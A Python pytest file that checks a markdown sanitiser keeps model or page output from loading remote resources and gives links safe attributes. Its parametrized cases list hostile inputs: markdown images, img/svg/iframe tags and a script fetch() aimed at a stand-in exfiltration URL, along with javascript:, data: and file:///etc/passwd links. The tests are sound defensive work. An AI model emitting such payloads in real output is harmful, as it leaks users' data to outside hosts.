"""Markdown from the model or a page never loads a remote resource; links carry rel."""

from __future__ import annotations

import re

import pytest

from searchduel.render.markdown import LINK_REL, markdown_href, plain_text, safe_markdown, safe_url

EXFIL = "http://127.0.0.1:9/exfil?q=secret"


def tags(text: str) -> list[str]:
    return re.findall(r"<([A-Za-z/][^>]*)>", text)


@pytest.mark.parametrize(
    "hostile",
    [
        f"![x]({EXFIL})",
        f'![x]({EXFIL} "title")',
        f"![x](<{EXFIL}>)",
        f"![x][r]\n\n[r]: {EXFIL}",
        f'<img src="{EXFIL}">',
        f"<IMG SRC={EXFIL} onerror=alert(1)>",
        f'<picture><source srcset="{EXFIL}"></picture>',
        f'<svg><image href="{EXFIL}"/></svg>',
        f'<iframe src="{EXFIL}"></iframe>',
        f"<script>fetch('{EXFIL}')</script>",
        f'<link rel="stylesheet" href="{EXFIL}">',
        f'<video poster="{EXFIL}"></video>',
        f"<!-- <img src={EXFIL}> -->",
        f"[a]: {EXFIL}\n\n![b][a]",
        f"![b][]\n\n[b]: {EXFIL}",
        f"![shortcut]\n\n[Shortcut]:  <{EXFIL}>  'title'",
        f"![alt across\nlines]({EXFIL})",
        f'![x]({EXFIL} "a ) in the title")',
        f"![[nested]]({EXFIL})",
        f"![x](  {EXFIL}  )",
        f"<{EXFIL}>",
        f"&lt;img src={EXFIL}&gt;",
        f"&#60;img src={EXFIL}&#62;",
        f"\\<img src={EXFIL}>",
        f"[![inner]({EXFIL})](https://ok.example/)",
    ],
)
def test_nothing_renders_as_an_image_or_a_raw_tag(hostile: str) -> None:
    out = safe_markdown(f"Answer text. {hostile} More.")
    assert "![" not in out and "!\\[" not in out, "no Markdown image left"
    assert "<img" not in out.lower() and "<image" not in out.lower()
    for tag in tags(out):
        assert re.match(r"a |/a$", tag), f"only our own anchors remain, found <{tag}>"
    assert "Answer text." in out and "More." in out


def test_links_open_in_a_new_tab_without_opener_or_referrer() -> None:
    out = safe_markdown("See [the tide tables](https://tides.example/skagway) [1].")
    assert out == (
        'See <a href="https://tides.example/skagway" target="_blank" '
        f'rel="{LINK_REL}">the tide tables</a> [1].'
    )


def test_images_become_links_the_reader_may_choose_to_follow() -> None:
    out = safe_markdown(f"![a chart]({EXFIL})")
    assert out == f'<a href="{EXFIL}" target="_blank" rel="{LINK_REL}">image: a chart</a>'


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "file:///etc/passwd"]
)
def test_unsafe_link_schemes_keep_their_text_only(url: str) -> None:
    assert safe_markdown(f"[click]({url})") == "click"
    assert safe_url(url) is None


def test_code_is_left_exactly_as_written() -> None:
    code = 'Use `<img src=x>` or:\n\n```html\n<img src="a.png">\n![x](y)\n```\nafter <b>'
    out = safe_markdown(code)
    assert "`<img src=x>`" in out and '```html\n<img src="a.png">\n![x](y)\n```' in out
    assert out.endswith("after &lt;b>")


def test_plain_text_and_comparisons_pass_unchanged() -> None:
    text = "If a < b and b > c, then 2<3; citations [1][2] stay. mail me@example.org"
    assert safe_markdown(text) == text
    assert safe_markdown("") == ""


@pytest.mark.parametrize("url", ["mailto:me@example.org", "//evil.example/x", "http:/x"])
def test_only_absolute_http_links_stay_links(url: str) -> None:
    assert safe_markdown(f"[write]({url})") == "write"


def test_reference_links_become_our_anchors_and_definitions_go() -> None:
    out = safe_markdown('See [the tables][t] or [T].\n\n[t]: https://tides.example/ "Tides"')
    anchor = f'<a href="https://tides.example/" target="_blank" rel="{LINK_REL}">'
    assert out.count(anchor) == 2 and "[t]:" not in out
    assert safe_markdown("[x][j]\n\n[j]: javascript:alert(1)") == "x\n\n"


def test_a_defined_number_never_hijacks_a_citation() -> None:
    assert safe_markdown(f"tides [1]\n\n[1]: {EXFIL}").startswith("tides [1]")


def test_entities_stay_text() -> None:
    out = safe_markdown("&lt;img src=x onerror=alert(1)&gt; &amp;lt;b&amp;gt;")
    assert "<img" not in out and out.startswith("&lt;img")


@pytest.mark.parametrize(
    "field",
    [
        f"![x]({EXFIL})",
        f"<img src={EXFIL}>",
        f"x)![y]({EXFIL}",
        "a | b [c](javascript:alert(1))",
    ],
)
def test_short_fields_are_plain_text(field: str) -> None:
    out = plain_text(field)
    assert "<" not in out
    for syntax in "[]!|\\`":
        assert syntax not in out.replace("&#", ""), f"{syntax!r} is written as an entity"


def test_link_destinations_cannot_end_early() -> None:
    href = markdown_href(f'https://e.example/x)![y]({EXFIL}) a"b')
    assert not any(c in href for c in ' ()[]"')
